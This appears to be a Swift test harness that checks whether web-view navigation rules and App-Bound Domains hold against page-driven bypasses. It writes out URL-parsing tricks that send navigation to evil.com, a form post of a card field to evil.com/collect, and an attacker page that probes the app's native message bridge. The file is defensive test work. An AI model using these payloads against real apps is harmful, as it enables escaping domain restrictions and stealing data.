import AppBound
import CWebKitGTK
import Foundation
import LoopbackSites
import NavigationRules
import WebAddress
import WebFenceGTK

/// The bypass classes of the navigation-rules spec (§1) that a page can try on its own, driven
/// from the page's JavaScript in a real web view, under the two ways an app keeps a web view on
/// its domains (seed 003's rules; App-Bound Domains). An attempt is caught when the engine sent
/// nothing to the attacker (no request and no connection through the loopback proxy), the main
/// frame did not leave the trusted site, and the attacker's frames reached no message handler.
/// Controls (a trusted target by the same route) must get through, so that "nothing was sent" is
/// evidence and not a harness that sends nothing.
@MainActor
public enum BypassAttempts {
    static let trusted = "example.com"

    /// One page-driven attempt.
    struct Attack {
        let name: String
        /// The trusted page the attempt starts on.
        var start = "https://example.com/"
        /// The page's own script, run once the start page has loaded.
        var script: String?
        /// A control: the trusted URL (or its prefix) that must be requested; nil for an attempt.
        var control: String?
        /// The attacker's document is allowed to display (a non-app-bound subframe under
        /// App-Bound Domains), so traffic to it is expected; its handlers must still be absent.
        var displaysUnderAppBound = false
        /// The page clicks a link: WebKit opens a connection to the link's host on the click, before
        /// it asks the policy (a speculative preconnect), so a bare `CONNECT` may reach the attacker;
        /// a request may not.
        var clicksLink = false
    }

    /// What an attempt must show under one policy.
    public enum Expectation: String, Sendable {
        /// Nothing reaches the attacker: no request, no main frame on its site, no message.
        case caught
        /// A control: the trusted target is reached.
        case through
        /// A hole of a framework's own rules: the attacker's page loads in the main frame, as the
        /// framework decided; the suite shows the hole is real before the rule set closes it.
        case loads
    }

    /// Under which policy an attempt ran, and what happened.
    public struct Result: Sendable {
        public let policy: String
        public let attack: String
        public let expected: Expectation
        /// The attempt did what `expected` says.
        public let passed: Bool
        public let evidence: String
    }

    static var attacks: [Attack] {
        let frame = { (src: String) in
            "document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '\(src)' })); true"
        }
        return [
            Attack(
                name: "location with a backslash", script: #"location.href = "https://evil.com\\@example.com/"; true"#),
            Attack(name: "location with userinfo", script: #"location.href = "https://example.com@evil.com/"; true"#),
            Attack(
                name: "location: suffix without a label boundary",
                script: #"location.href = "https://example.com.evil.com/"; true"#),
            Attack(name: "location: percent-encoded dot", script: #"location.href = "https://evil%2Ecom/"; true"#),
            Attack(
                name: "location: full-width letters",
                script: #"location.href = "https://\uFF45\uFF56\uFF49\uFF4C.com/"; true"#),
            Attack(name: "location: trailing dot and case", script: #"location.href = "https://EVIL.com./"; true"#),
            // Not loopback, which is always app-bound in a main frame (spec §2), as the device itself.
            Attack(
                name: "location: numeric IPv4 host (one number)",
                script: #"location.href = "https://1572395042/"; true"#),
            Attack(
                name: "location: numeric IPv4 host (hex parts)",
                script: #"location.href = "https://0x5d.0xb8.0xd8.0x22/"; true"#),
            Attack(name: "location: IPv6 host", script: #"location.href = "https://[2001:db8::1]/"; true"#),
            Attack(
                name: "location: spaces and control characters",
                script: #"location.href = " \t https://evil.com/\n "; true"#),
            Attack(
                name: "location: data: URL",
                script: #"location.href = "data:text/html,<script>location='https://evil.com/'</script>"; true"#),
            Attack(
                name: "location: blob: URL of the page's own origin",
                script:
                    #"location.href = URL.createObjectURL(new Blob(["<script>location='https://evil.com/'</script>"], { type: "text/html" })); true"#
            ),
            Attack(name: "a link clicked", script: click("https://evil.com/"), clicksLink: true),
            Attack(name: "window.open", script: #"window.open("https://evil.com/"); true"#),
            Attack(
                name: "window.open, then the window navigates",
                script:
                    #"const w = window.open("https://login.example.com/"); setTimeout(() => { w.location.href = "https://evil.com/"; }, 800); true"#
            ),
            Attack(name: "meta refresh", start: "https://example.com/meta-refresh"),
            Attack(name: "form post", script: formPost("https://evil.com/collect")),
            Attack(name: "redirect chain", script: #"location.href = "https://example.com/hop"; true"#),
            Attack(name: "iframe", script: frame("https://evil.com/frame"), displaysUnderAppBound: true),
            Attack(
                name: "iframe through a redirect chain", script: frame("https://example.com/hop-frame"),
                displaysUnderAppBound: true),
            Attack(
                name: "control: location to a subdomain",
                script: #"location.href = "https://login.example.com/"; true"#, control: "https://login.example.com/"),
            Attack(
                name: "control: window.open", script: #"window.open("https://login.example.com/"); true"#,
                control: "https://login.example.com/"),
            Attack(
                name: "control: iframe", script: frame("https://help.example.com/frame"),
                control: "https://help.example.com/frame"),
        ]
    }

    /// The page's script setting `location` (WebKit: a navigation of type other).
    static func location(_ url: String) -> String { #"location.href = "\#(url)"; true"# }

    /// A link the page's script clicks: WebKit reports a link activation, as a tap would.
    static func click(_ url: String) -> String {
        #"Object.assign(document.createElement("a"), { href: "\#(url)" }).click(); true"#
    }

    /// A form the page's script posts (WebKit: a form submission).
    static func formPost(_ url: String) -> String {
        """
        const form = Object.assign(document.createElement('form'), { method: 'post', action: '\(url)' });
        form.appendChild(Object.assign(document.createElement('input'), { name: 'card', value: '4111' }));
        document.body.appendChild(form); form.submit(); true
        """
    }

    /// Hosts the certificate covers: every host an attempt could reach, so that an attempt the
    /// engine let through would show in the proxy's log.
    static let hosts = [
        "example.com", "login.example.com", "help.example.com", "evil.com", "example.com.evil.com", "evil.com.",
    ]

    /// The attacker's pages: a frame that tries the app's message handler, directly, through a
    /// fresh child frame of its own (whose `webkit` namespace is another realm's), and with the
    /// child's `messageHandlers` getter applied to its own namespace, through an about:blank window
    /// it opens (a main frame with the attacker's origin), through a `javascript:` URL in a new
    /// window, and with the built-ins the guard uses replaced first.
    static func routes(_ sites: SiteTable) {
        sites.route(
            "https://example.com/meta-refresh",
            to: .html(#"<meta http-equiv="refresh" content="0;url=https://evil.com/">"#))
        sites.route("https://example.com/hop", to: .redirect(to: "https://login.example.com/hop2"))
        sites.route("https://login.example.com/hop2", to: .redirect(to: "https://evil.com/"))
        sites.route("https://example.com/hop-frame", to: .redirect(to: "https://evil.com/frame"))
        let tryHandlers = """
            <!doctype html><p>attacker</p><script>
            const post = (w, how) => { try { w.webkit.messageHandlers.app.postMessage("evil " + how); } catch (e) {} };
            post(window, "directly");
            const child = document.body.appendChild(document.createElement("iframe"));
            post(child.contentWindow, "through a child frame");
            try {
              const getter = Object.getOwnPropertyDescriptor(Object.getPrototypeOf(child.contentWindow.webkit), "messageHandlers").get;
              getter.call(window.webkit).app.postMessage("evil through a getter borrowed from a child frame");
            } catch (e) {}
            try {
              const opened = window.open("about:blank");
              post(opened, "through a window it opened");
            } catch (e) {}
            try {
              const form = document.body.appendChild(Object.assign(document.createElement("form"), {
                target: "_blank", method: "get",
                action: "javascript:try{webkit.messageHandlers.app.postMessage('evil through a javascript: window')}catch(e){}" }));
              form.submit();
            } catch (e) {}
            try {
              Object.defineProperty = function () {}; Reflect.apply = function (f, self, args) { return f.apply(self, args); };
              post(window.open("about:blank"), "through a window opened with the built-ins replaced");
            } catch (e) {}
            // Done: the runner waits for this request, however slow the machine.
            try { fetch(location.origin + "/done"); } catch (e) {}
            </script>
            """
        sites.route("https://evil.com/frame", to: .html(tryHandlers))
        sites.route(
            "https://help.example.com/frame", to: .html(tryHandlers.replacingOccurrences(of: "evil ", with: "trusted "))
        )
    }

    /// The two policies: seed 003's rule set (no App-Bound Domains), and App-Bound Domains with limits.
    static func policies() throws -> [Policy] {
        let rules = try NavigationRuleSet(json: #"{"version": 1, "allow": ["example.com"]}"#)
        return [
            ("navigation rules", WebFencePolicy(app: AppBoundApp(domains: nil), rules: rules), false),
            ("App-Bound Domains", WebFencePolicy(app: AppBoundApp(domains: AppBoundDomains(entries: [trusted]))), true),
        ]
    }

    public static func run(log: (String) -> Void) throws -> [Result] {
        let ca = try RunTimeCA(hosts: hosts)
        let sites = SiteTable(page: Pages.page(for:))
        routes(sites)
        let proxy = try LoopbackProxy(sites: sites, ca: ca)
        defer { proxy.stop() }
        var results: [Result] = []
        for (name, policy, limits) in try policies() {
            for attack in attacks {
                log("\(name): \(attack.name)")
                let expected = attack.control == nil ? Expectation.caught : .through
                results.append(
                    attempt(
                        attack, expecting: expected, under: (name, policy, limits), proxy: proxy, ca: ca, sites: sites))
            }
        }
        for hole in FrameworkHoles.cases {
            for (policy, ofHoles) in try FrameworkHoles.policies(hole) {
                for (attack, expected) in FrameworkHoles.attempts(hole, expectingOfHoles: ofHoles) {
                    log("\(policy.name): \(attack.name)")
                    results.append(
                        attempt(attack, expecting: expected, under: policy, proxy: proxy, ca: ca, sites: sites))
                }
            }
        }
        return results
    }

    /// The trusted site: the app's domain and its subdomains.
    static func isTrusted(_ host: String?) -> Bool {
        guard let host else { return false }
        return host == trusted || host.hasSuffix("." + trusted)
    }

    /// A URL's host as the engine reads it (a `blob:` URL's is its origin's).
    static func host(of url: String) -> String? {
        guard let parsed = try? WebURL(url) else { return nil }
        if parsed.scheme == "blob" { return host(of: String(url.dropFirst("blob:".count))) }
        return parsed.host?.description
    }

    /// A `CONNECT` target's host (`host:port`, `[v6]:port`).
    static func host(ofTarget target: String) -> String {
        let host = target.lastIndex(of: ":").map { String(target[..<$0]) } ?? target
        return host.hasPrefix("[") ? String(host.dropFirst().dropLast()) : host
    }
}
